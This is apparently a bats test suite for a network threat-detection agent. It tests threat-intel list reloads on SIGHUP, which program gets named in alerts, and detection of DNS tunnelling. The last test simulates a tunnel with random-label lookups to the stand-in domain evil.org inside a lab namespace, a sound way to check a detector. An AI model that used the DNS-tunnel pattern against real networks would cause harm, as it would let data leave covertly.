#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Threat intelligence in the real agent: what is listed is told, and a new list counts from SIGHUP on,
# the old one no more. So is a DNS tunnel.

net=pkin
load lib

setup_file() {
	export run=$BATS_FILE_TMPDIR intel=/run/$net-intel
	make_net
	mkdir -p "$intel" # where the agent, which is nobody in particular, may read
	echo "old.example" >"$intel/list.txt"
	write_config "$run/picket.yaml"
	echo "detect: {intel_dir: $intel}" >>"$run/picket.yaml"
	start_daemon
	export daemon
	nsenter --net="/run/netns/${net}s" dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
		--user=root --listen-address=$server_ip --bind-interfaces --address=/example/$server_ip \
		--address=/evil.org/$server_ip >"$run/dnsmasq.log" 2>&1 3>&- &
	wait_for 10 ask ready.example
}

teardown_file() {
	kill_children
	clean_net
	rm -rf "$intel"
}

ask() { in_client dig +tries=1 +time=2 "@$server_ip" "$1"; }
# alert_with JQ: some alert satisfies it.
alert_with() { api /v1/alerts | jq -e ".alerts | any(.[]; $1)"; }

@test "SIGHUP: the new list counts, the old one no more" {
	echo "new.example" >"$intel/list.txt"
	kill -HUP "$daemon"
	wait_for 10 grep -q "configuration read again" "$run/log"
	sleep 0.5
	ask www.new.example
	ask later.old.example
	wait_for 10 alert_with 'tostring | contains("www.new.example")'
	! alert_with 'tostring | contains("later.old.example")' || false
}

reloads() { [ "$(grep -c "configuration read again" "$run/log")" -ge "$1" ]; }
# names NAME PROGRAM: the first process of the alert about this name is this program.
names() {
	local file
	file=$(api /v1/alerts | jq -r --arg n "$1" '[.alerts[] | select(.unmapped.picket.name == $n)] | first |
		[.evidences[].process? | select(.) | .file.name] | first')
	[ "$file" = "$(basename "$(readlink -f "$(command -v "$2")")")" ]
}

@test "an alert about a name names the program that asked for it" {
	local before
	before=$(grep -c "configuration read again" "$run/log" || true)
	printf 'whose.example\ncarried.example\n' >"$intel/list.txt"
	kill -HUP "$daemon"
	wait_for 10 reloads $((before + 1))
	ask www.whose.example
	wait_for 10 names www.whose.example dig || {
		api /v1/alerts | jq -c '.alerts[].evidences'
		false
	}
}

# Several, for what is read first is chance: the hello, the socket or the flow.
@test "an alert about a name in a hello names the program that said it" {
	local i
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=carried.example \
		-keyout "$run/key.pem" -out "$run/cert.pem" 2>/dev/null
	nsenter --net="/run/netns/${net}s" openssl s_server -accept $server_ip:443 -key "$run/key.pem" \
		-cert "$run/cert.pem" -www >"$run/tls.log" 2>&1 3>&- &
	others=$!
	wait_for 10 grep -q ACCEPT "$run/tls.log"
	for i in $(seq 8); do
		in_client curl -sk --max-time 5 --resolve "c$i.carried.example:443:$server_ip" \
			"https://c$i.carried.example/" >/dev/null
	done
	for i in $(seq 8); do
		wait_for 10 names "c$i.carried.example" curl || {
			api /v1/alerts | jq -c --arg n "c$i.carried.example" \
				'.alerts[] | select(.unmapped.picket.name == $n) | [.finding_info.desc, .evidences]'
			false
		}
	done
}

@test "a tunnel in names is told, ordinary lookups are not" {
	local i
	for i in $(seq 60); do
		ask "$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n').t.evil.org"
	done >"$run/digs"
	wait_for 10 alert_with '.finding_info.analytic.uid == "dns_tunnel" and (tostring | contains("evil.org"))'
	for i in $(seq 60); do
		ask "www$i.shop.example"
	done >"$run/digs"
	[ "$(api /v1/alerts | jq '[.alerts[] | select(.finding_info.analytic.uid == "dns_tunnel")] | length')" = 1 ]
}
